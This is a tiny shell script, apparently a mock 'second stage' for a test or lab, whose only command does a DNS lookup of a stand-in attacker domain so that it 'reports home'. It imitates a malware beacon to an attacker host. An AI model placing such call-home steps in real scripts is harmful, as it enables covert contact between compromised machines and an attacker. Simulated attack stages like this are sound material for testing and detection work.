#!/bin/sh
# stand-in second stage: reports home
getent hosts pastorcryptograph.attacker.example >/dev/null 2>&1
